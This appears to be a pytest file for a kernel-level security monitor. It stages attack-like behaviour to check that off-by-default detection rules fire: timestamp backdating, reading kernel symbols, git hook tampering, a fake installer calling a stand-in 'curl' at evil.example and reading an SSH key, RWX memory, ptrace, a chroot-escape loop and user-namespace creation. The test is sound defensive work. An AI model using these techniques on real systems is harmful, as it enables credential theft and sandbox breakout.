# SPDX-License-Identifier: Apache-2.0
"""The rules that are off by default, tried for real: the sets strict and developer."""

from __future__ import annotations

import pytest
from support.watch import private, python, watch_packaged

pytestmark = pytest.mark.kernel

MAPPED, MEMORY = "Code mapped from a world-writable directory", "Memory made writable and executable"
NAMESPACE, TIMES = "User namespace made", "Times of a file set back"
SYMBOLS, TRACED = "Symbols of the kernel read", "Process traced by its parent"
HOOK, INSTALLER = "Hook of a repository changed", "Package installer started a downloader"
SECRET = "Secret read during an installation or build"

SCRIPT = """
    cp /bin/true /tmp/code; touch -d yesterday /tmp/code; : < /proc/kallsyms
    mkdir -p /tmp/x/.git/hooks /tmp/x/.ssh; echo > /tmp/x/.git/hooks/pre-commit; echo > /tmp/x/.ssh/id_rsa
    sh -c 'cp /bin/true /tmp/curl; /tmp/curl evil.example; cat /tmp/x/.ssh/id_rsa; true' npm install x
    exec "$@"
"""
CODE = """
    import ctypes, mmap, os
    libc = ctypes.CDLL(None)
    with open("/tmp/code", "rb") as file:
        mmap.mmap(file.fileno(), 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC, flags=mmap.MAP_PRIVATE)
    memory = mmap.mmap(-1, 4096)
    libc.mprotect(ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(memory))), 4096, 7)
    if os.fork() == 0:
        libc.ptrace(0, 0, 0, 0)
        os._exit(0)
    os.wait()
    # A process in a chroot may not make a user namespace: leave it, if this is one.
    os.mkdir("/tmp/below")
    os.chdir("/")
    os.chroot("/tmp/below")
    while not os.path.samestat(os.stat("."), os.stat("..")):
        os.chdir("..")
    os.chroot(".")
    libc.unshare(0x10000000)
"""


def test_rules_that_are_off_by_default() -> None:
    outcome = watch_packaged(private("mount -t tmpfs none /tmp; cd /tmp; " + SCRIPT, *python(CODE)))
    found = {MAPPED, MEMORY, NAMESPACE, TIMES, SYMBOLS, TRACED, HOOK, INSTALLER, SECRET}
    assert found <= outcome.rules
    assert outcome.of(MAPPED)[0].fields["fd.name"] == "/tmp/code"
    assert outcome.of(SECRET)[0].fields["fd.name"] == "/tmp/x/.ssh/id_rsa"
